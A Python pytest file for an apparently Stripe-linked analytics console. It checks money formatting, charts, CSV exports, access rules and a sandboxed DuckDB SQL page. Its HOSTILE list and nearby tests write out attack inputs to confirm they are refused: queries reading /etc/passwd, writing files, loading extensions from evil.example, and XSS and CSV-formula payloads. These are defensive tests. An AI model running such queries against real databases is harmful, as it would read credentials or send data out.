"""Money and SQL: the command line's figures, and questions that read nothing but the lake."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from tests.support.stack.visit import Visit

from nilometer.console.http.answers import chart_of
from nilometer.console.http.formats import money
from nilometer.console.money.pages import PARTS, _in_units
from nilometer.errors import Rejected, Unavailable
from nilometer.lake.read.bounded import bounded_query
from nilometer.lake.read.query import query

SINCE = "2026-01-01"


@pytest.mark.parametrize(
    ("minor", "currency", "shown"),
    [
        (68_900, "usd", "689.00 USD"),
        (-1_234_567, "eur", "-12,345.67 EUR"),
        (500, "jpy", "500 JPY"),
        (5_120, "kwd", "5.120 KWD"),
        (1_000_000, "TND", "1,000.000 TND"),
        (None, "usd", "–"),
    ],
)
def test_an_amount_has_the_digits_of_its_currency(minor: int | None, currency: str, shown: str) -> None:
    """Minor units are hundredths, units or thousandths."""
    assert money(minor, currency) == shown
    whole = {"names": [currency.lower()], "data": [[0, 1], [minor, None]]}
    [line] = (_in_units(whole) or whole)["data"][1:]
    assert line[0] is None or float(shown.split(maxsplit=1)[0].replace(",", "")) == line[0]


def test_a_chart_has_numbers_alone() -> None:
    """What is no number, or endless, has no place on a line; the page's script could not read it."""
    start = datetime(2026, 11, 1, tzinfo=UTC)
    values = [1.0, float("nan"), float("inf"), Decimal("NaN"), None, 2.0]

    chart = chart_of(["day", "x"], [(start + timedelta(days=day), value) for day, value in enumerate(values)])

    assert chart
    assert json.loads(json.dumps(chart, allow_nan=False))["data"] == [
        [start.timestamp(), (start + timedelta(days=5)).timestamp()],
        [1.0, 2.0],
    ]


@pytest.mark.parametrize("known", ["", "2026-11-10T00:00"])
@pytest.mark.parametrize("name", PARTS)
def test_figures_of_money_are_the_command_lines(visit: Visit, ask: Any, name: str, known: str) -> None:
    """Each row of the command line stands in the table, and in the CSV as it is, also as known at an earlier time."""
    part = PARTS[name]
    known = known or f"{datetime.now(UTC):%Y-%m-%dT%H:%M:%S}"
    if part.metric:
        rows = ask("metric", part.metric, "--from", SINCE, "--known-at", f"{known}Z", "--json").lines
    else:
        rows = ask("query", "--recipe", part.recipe, "--since", SINCE, "--as-of", f"{known}Z", "--json").lines
    asked = f"from={SINCE}&known={quote(known)}"
    shown = html.unescape(visit.get(f"/money/{name}?{asked}").text)
    file = list(csv.DictReader(io.StringIO(visit.get(f"/money/{name}.csv?{asked}").text)))

    assert len(file) == len(rows)
    assert rows or part.empty in shown
    for row, line in zip(rows, file, strict=True):
        assert all(str(row[column]) == line[column] for column in part.amounts)
    for row in rows[-1:] if name == "mrr" else rows:
        assert all(money(row[column], row["currency"]) in shown for column in part.amounts)


def test_money_is_of_one_account(visit: Visit) -> None:
    """Our own, unless a Connect account is named, which no other's figures are shown for."""
    for name in PARTS.keys() - {"usage"}:
        assert PARTS[name].empty in html.unescape(visit.get(f"/money/{name}?from={SINCE}&account=acct_none").text)
    page = visit.get(f"/money?from={SINCE}&account=acct_none").text
    assert page.count("account=acct_none") >= 2 * len(PARTS)
    assert "Of the Connect account acct_none" in page


@pytest.mark.parametrize("name", [name for name, part in PARTS.items() if part.behind])
def test_a_figure_opens_into_its_events(visit: Visit, name: str) -> None:
    """Each link leads to events, and each of them opens."""
    page = visit.get(f"/money/{name}?from={SINCE}").text
    links = [html.unescape(found) for found in re.findall(r'href="(/money/events/[^"]+)"', page)]

    assert links or PARTS[name].empty in page
    for link in links[:3]:
        events = re.findall(r'href="(/event[^"]+)"', visit.get(link).text)
        assert events
        assert visit.get(html.unescape(events[0])).status == 200


def test_recurring_revenue_is_the_sum_of_its_events(visit: Visit, ask: Any) -> None:
    """The changes behind the figure add up to it; those behind a movement are of its month."""
    [row] = ask("metric", "mrr_daily", "--from", f"{datetime.now(UTC):%Y-%m-%d}", "--json").lines
    page = visit.get("/money/mrr").text
    opened = visit.get(html.unescape(re.findall(r'href="(/money/events/[^"]+)"', page)[-1])).text
    cells = [re.findall(r"<td[^>]*>(?:<a[^>]*>)?([^<]*)", row) for row in opened.split("<tr>")[2:]]
    columns = [name.replace(" ", "_") for name in re.findall(r'<th scope="col"[^>]*>([^<]+)', opened)]

    assert sum(int(one[columns.index("change")].replace(",", "")) for one in cells) == row["mrr"]


def test_days_that_are_none_are_refused(visit: Visit) -> None:
    """With what a day looks like."""
    for told in ("yesterday", "2026-13-01", "0001-01-01"):
        assert visit.get(f"/money?from={quote(told)}").status == 400
        assert visit.get(f"/money/mrr?known={quote(told)}").status == 400
    assert visit.get("/money?from=2026-02-01&to=2026-01-01").status == 400


def test_a_question_is_answered_as_a_grid_chart_and_file(visit: Visit, ask: Any) -> None:
    """The address holds the question, so it can be shared; the recipes are offered."""
    sql = "select type, count(*) as n from stripe_events group by 1 order by n desc, type"
    rows = ask("query", sql, "--json").lines

    page = visit.get(f"/sql?q={quote(sql)}").text
    file = list(csv.DictReader(io.StringIO(visit.get(f"/sql.csv?q={quote(sql)}").text)))

    assert [(row["type"], int(row["n"])) for row in file] == [(row["type"], row["n"]) for row in rows]
    assert all(f">{row['type']}<" in page for row in rows)
    assert "usage-per-day" in page
    chart = "select day, v from (values (date '2026-11-01', 1), (date '2026-11-02', 2)) as t(day, v)"
    assert 'class="chart"' in visit.get(f"/sql?q={quote(chart)}").text


def test_a_question_of_another_site_is_shown_and_not_run(visit: Visit) -> None:
    """A link from elsewhere cannot make the lake work."""
    page = visit.get(f"/sql?q={quote('select 41 + 1 as answer')}", sec_fetch_site="cross-site").text

    assert "select 41 + 1" in page
    assert ">42<" not in page


def test_markup_in_an_answer_is_text(visit: Visit) -> None:
    """In names of columns and in values, on the page; a formula is none in the file."""
    sql = """select '<img src=x onerror=alert(1)>' as "<script>alert(2)</script>", '=cmd()' as formula"""
    page = visit.get(f"/sql?q={quote(sql)}").text

    assert "<img src=x" not in page
    assert "<script>alert" not in page
    assert "'=cmd()" in visit.get(f"/sql.csv?q={quote(sql)}").text


HOSTILE = (
    "copy (select 1) to '{file}'",
    "copy usage to '{file}'",
    "export database '{file}'",
    "attach '{file}'",
    "select * from read_csv('/etc/passwd')",
    "select * from read_text('/etc/passwd')",
    "select * from read_blob('/etc/passwd')",
    "select * from '/etc/passwd'",
    "select * from glob('/etc/*')",
    "select * from read_parquet('s3://elsewhere/x')",
    "install httpfs",
    "load '/tmp/x.duckdb_extension'",
    "set enable_external_access = true",
    "set lock_configuration = false; select 1",
    "set memory_limit = '100GB'",
    "reset enable_external_access",
    "select * from visit",
    "insert into usage select * from usage",
    "drop view usage; select * from read_text('/etc/passwd')",
    "create table t as select * from read_text('/etc/passwd'); from t",
    "copy (from usage) to '{file}' (format parquet)",
    "COPY/**/(select 1)/**/TO '{file}'",
    "import database '/etc'",
    "attach '{file}' as other (type sqlite)",
    "create secret s (type s3, key_id 'x', secret 'y')",
    "set temp_directory = '{file}'",
    "pragma enable_profiling; pragma profiling_output = '{file}'",
    "set log_query_path = '{file}'",
    "set custom_extension_repository = 'http://evil.example'",
    "set s3_endpoint = 'evil.example'; select 1",
    "force install httpfs from 'http://evil.example'",
    "call enable_logging()",
    "prepare p as select * from read_text('/etc/passwd'); execute p",
    "with t as (select * from read_text('/etc/passwd')) select * from t",
    "select * from query('select * from read_text(''/etc/passwd'')')",
    "select (select content from read_text('/etc/passwd'))",
    "select * from 'https://evil.example/x.csv'",
    "select * from '{file}'",
)


@pytest.mark.parametrize("sql", HOSTILE)
def test_sql_reads_and_writes_no_file(visit: Visit, tmp_path: Path, sql: str) -> None:
    """Neither this machine's nor others', and it cannot loosen its own bounds."""
    asked = quote(sql.format(file=tmp_path / "written"))

    page = visit.get(f"/sql?q={asked}").text

    assert 'class="note bad' in page
    assert "root:" not in page
    assert visit.get(f"/sql.csv?q={asked}").status == 400
    assert list(tmp_path.iterdir()) == []


def test_no_function_reads_or_writes_a_file(tmp_path: Path) -> None:
    """Every one of this version of DuckDB, called with the name of a file that is there and of one that is not."""
    lake: Any = {"lake_uri": str(tmp_path / "lake"), "storage_options": {}}
    secret, made = tmp_path / "secret.csv", tmp_path / "made"
    secret.write_text("word\nopensesame\n")
    told = """select distinct function_name, function_type from duckdb_functions()
              where function_type in ('table', 'table_macro', 'pragma') or
                    function_name similar to '.*(read|write|file|env|path|load|glob|http|import|export|secret).*'"""
    functions = bounded_query(told, **lake, limit=10_000).rows
    assert len(functions) > 80
    for name, kind in functions:
        for file in (secret, made):
            called = f"\"{name}\"('{file}')"
            sql = {"pragma": f"pragma {name}('{file}')", "scalar": f"select {called}"}.get(kind, f"from {called}")
            try:
                answer = str(bounded_query(sql, **lake, seconds=3).rows)
            except (Rejected, Unavailable):
                continue
            assert "opensesame" not in answer, name
            assert str(secret) not in answer or kind == "scalar", name
    assert sorted(tmp_path.rglob("*")) == [secret]


def test_sql_is_bounded_in_time_and_rows(tmp_path: Path) -> None:
    """A question that never ends is cut; an answer without end is."""
    lake: Any = {"lake_uri": str(tmp_path), "storage_options": {}}

    with pytest.raises(Rejected, match="longer than"):
        bounded_query("select sum(a.range * b.range) from range(10000000) a, range(10000000) b", seconds=0.5, **lake)
    found = bounded_query("select * from range(1000000000)", limit=7, **lake)
    assert (len(found.rows), found.more) == (7, True)
    with pytest.raises(Rejected, match="memory"):
        bounded_query("select list(range) from range(200000000)", **lake)


@pytest.mark.parametrize("ask_lake", [bounded_query, lambda sql, **lake: list(query(sql, **lake).rows)])
@pytest.mark.parametrize(
    "value",
    [
        "'infinity'::timestamptz",
        "'-infinity'::date",
        "date '20000-01-01'",
        "timestamp_ns '2026-01-01 00:00:00.000000001'",
    ],
)
def test_a_time_that_python_cannot_hold_is_named(tmp_path: Path, value: str, ask_lake: Any) -> None:
    """With what to do; as text it is there."""
    lake: Any = {"lake_uri": str(tmp_path), "storage_options": {}}

    with pytest.raises(Rejected, match="cast it to varchar"):
        ask_lake(f"select {value}", **lake)
    assert ask_lake(f"select ({value})::varchar", **lake)


@pytest.mark.parametrize(
    "path", ["/sql", "/sql?q=select+1", "/sql.csv?q=select+1", "/money", "/money/mrr", "/money/mrr.csv"]
)
def test_the_lake_is_for_who_sees_all_of_it(visit: Visit, path: str) -> None:
    """Neither a Viewer nor an Admin of one workspace."""
    assert visit.look_as("Viewer").get(path).status == 403
    assert visit.look_as("Admin", "memphis").get(path).status == 403
